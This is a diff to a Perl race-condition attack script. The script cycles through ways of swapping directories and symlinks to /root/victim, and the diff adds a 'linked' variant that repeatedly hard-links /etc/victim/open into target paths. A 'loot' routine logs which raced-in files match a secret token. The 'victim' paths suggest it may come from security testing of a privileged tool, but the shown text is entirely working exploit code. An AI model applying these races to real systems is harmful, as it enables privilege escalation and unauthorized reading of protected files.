@@ -40,7 +40,7 @@ sub loot { my $path = shift; sysopen(my $in, $path, O_RDONLY | O_NONBLOCK) or re
   sysread($in, my $text, 4096); if ($text =~ /${token}/) { open(my $out, ">>", "/home/bob/loot"); print $out "$path\n"; } }
 sub around { my $at = shift; opendir(my $d, $at) or return; grep { !/^\.\.?$/ } readdir $d; }
 my $turn = 0;
-my @kinds = ("names", "staged", "parent", "below");
+my @kinds = ("names", "staged", "parent", "below", "linked");
 while (1) {
   my $kind = $kinds[int(time * 40) % @kinds];
   my $aim = $aims[$turn++ % @aims];
@@ -66,6 +66,12 @@ while (1) {
     select undef, undef, undef, 0.0002 * ($turn % 6);
     unlink $dir; rename "$home/d2", $dir;
     select undef, undef, undef, 0.002;
+  } elsif ($kind eq "linked") {
+    for my $path ("$dir/file", "$dir/tree/one") {
+      rename $path, "$home/aside/linked.$$" or next;
+      for (1 .. 200) { link "/etc/victim/open", $path; unlink $path; }
+      rename "$home/aside/linked.$$", $path;
+    }
   } elsif ($kind eq "below") {
     for my $at ("$dir/tree", "$dir/gone") {
       rename "$at/sub", "$home/aside/sub.$$" and symlink "/root/victim", "$at/sub";
